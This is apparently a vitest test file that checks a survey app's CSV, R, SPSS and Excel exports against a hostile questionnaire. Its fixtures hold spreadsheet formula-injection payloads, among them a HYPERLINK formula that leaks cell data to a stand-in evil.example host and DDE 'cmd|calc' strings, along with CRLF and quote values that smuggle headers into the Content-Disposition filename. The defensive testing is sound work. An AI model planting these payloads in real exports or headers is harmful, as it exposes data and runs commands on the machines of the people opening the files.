import { randomBytes } from 'node:crypto'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { insertResponse } from '../db/queries/responses.js'
import { findLatestVersion } from '../db/queries/surveys.js'
import { prepareResponse } from '../server/domain/prepare-response.js'
import { parseCsv } from './csv.js'
import { downloadText, PASSWORD } from './export-setup.js'
import { addSurvey, createTestContext, createUser, signedInClient, signIn } from './helpers.js'

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
// A dimension whose name breaks a naive Content-Disposition: a quote, then a line break.
const UNIT = 'unit"; filename="evil.exe'
const TEAM = 'tiimi-ä\r\nX-Evil: 1'

const hostile = {
  title: HYPERLINK,
  dimensions: [UNIT, TEAM],
  pages: [
    {
      name: 'p1',
      elements: [
        {
          type: 'radiogroup',
          name: UNIT,
          title: '@SUM(1+1)*cmd|" /C calc"!A0',
          isRequired: true,
          choices: [
            { value: '-2+3', text: '+cmd|calc' },
            { value: 'plain', text: '\tTabbed' },
          ],
        },
        { type: 'radiogroup', name: TEAM, isRequired: true, choices: ['a', 'b'] },
        { type: 'rating', name: 'level', rateMin: -2, rateMax: 2 },
      ],
    },
  ],
}

/** The hostile survey with 12 released responses, and an admin signed in. */
async function released() {
  const ctx = await createTestContext({ loadBundled: false })
  await addSurvey(ctx.db, 'hostile', hostile)
  const survey = (await findLatestVersion(ctx.db, 'hostile'))!
  for (const [unit, count] of [['-2+3', 6], ['plain', 6]] as const) {
    const answers = { [UNIT]: unit, [TEAM]: 'a', level: -2 }
    const version = { definition: hostile, locales: [] }
    const prepared = prepareResponse(version, { answers, locale: 'en' })
    if (!prepared.ok) throw new Error(JSON.stringify(prepared.details))
    for (let i = 0; i < count; i++) {
      await insertResponse(ctx.db, {
        id: randomBytes(16).toString('hex'),
        surveyId: survey.surveyId,
        surveyVersionId: survey.versionId,
        dimensions: [UNIT, TEAM],
        submittedOn: '2026-11-25',
        ...prepared.response,
      })
    }
  }
  await createUser(ctx.db, 'anna', 'admin', PASSWORD)
  const admin = signedInClient(ctx.app, await signIn(ctx.app, 'anna', PASSWORD))
  // The final release: the response-level file is made for it only (decision 007).
  expect((await admin.post('/api/admin/surveys/hostile/close')).status).toBe(200)
  return { admin }
}

const FORMULA_START = /^[=+\-@\t\r\0]/
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i

/** Every cell of a CSV download, header included, that a spreadsheet would run. */
function formulaCells(text: string): string[] {
  const { header, rows } = parseCsv(text)
  const cells = [...header, ...rows.flatMap((row) => Object.values(row))]
  return cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
}

const by = encodeURIComponent(UNIT)
const base = '/api/admin/surveys/hostile'

describe('exports of a questionnaire with formula-like text', () => {
  it('write no cell a spreadsheet would run, in every CSV; numbers stay numbers', async () => {
    const { admin } = await released()
    const csvs = {
      codebook: `${base}/codebook?format=csv`,
      aggregates: `${base}/export?format=csv&by=${by}`,
      responses: `${base}/export?level=responses`,
    }
    const texts: Record<string, string> = {}
    for (const [name, path] of Object.entries(csvs)) {
      const res = await admin.get(path)
      expect(res.status, name).toBe(200)
      texts[name] = await downloadText(res)
      expect(formulaCells(texts[name]), name).toEqual([])
    }
    const codebook = parseCsv(texts.codebook).rows
    expect(codebook.map((row) => row.label_en)).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(codebook.map((row) => row.label_en)).toContain("'+cmd|calc")
    expect(codebook.map((row) => row.label_en)).toContain("'\tTabbed")
    const responses = parseCsv(texts.responses).rows
    expect(new Set(responses.map((row) => row[UNIT]))).toEqual(new Set(["'-2+3", 'plain']))
    expect(new Set(responses.map((row) => row.level))).toEqual(new Set(['-2']))
  })

  it('label the neutralised values in the R and SPSS scripts as the CSV writes them', async () => {
    const { admin } = await released()
    const r = await (await admin.get(`${base}/export?level=responses&format=r`)).text()
    expect(r).toContain(`levels = c("'-2+3", "plain"`)
    const sps = await (await admin.get(`${base}/export?level=responses&format=sps`)).text()
    expect(sps).toContain(`'''-2+3' '+cmd|calc'`)
  })

  it('keep formula-like text a string, never a formula, in the workbook', async () => {
    const { admin } = await released()
    const res = await admin.get(`${base}/export?format=xlsx&by=${by}`)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await res.arrayBuffer())
    const cells: ExcelJS.Cell[] = []
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))))
    const texts = cells.map((cell) => cell.value)
    expect(texts).toContain('+cmd|calc') // the workbook keeps the exact text
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      expect(cell.formula).toBeUndefined()
    }
  })

  it('name downloads safely: one filename, no extra header, the exact name in filename*', async () => {
    const { admin } = await released()
    for (const path of [
      `${base}/export?format=csv&by=${by}`,
      `${base}/export?format=xlsx&by=${encodeURIComponent(TEAM)}`,
    ]) {
      const res = await admin.get(path)
      expect(res.status, path).toBe(200)
      const header = res.headers.get('content-disposition')!
      expect(header).toMatch(/^attachment; filename="[^"\\\r\n]*"(; filename\*=UTF-8''[^\s";]+)?$/)
      expect(res.headers.get('x-evil')).toBeNull()
    }
    const xlsx = await admin.get(`${base}/export?format=xlsx&by=${encodeURIComponent(TEAM)}`)
    expect(xlsx.headers.get('content-disposition')).toBe(
      `attachment; filename="hostile-release-1-by-tiimi-___X-Evil: 1.xlsx"; filename*=UTF-8''${encodeURIComponent('hostile-release-1-by-tiimi-ä__X-Evil: 1.xlsx')}`,
    )
    const csv = await admin.get(`${base}/export?format=csv&by=${by}`)
    expect(csv.headers.get('content-disposition')).toBe(
      'attachment; filename="hostile-release-1-by-unit_; filename=_evil.exe.csv"',
    )
  })
})
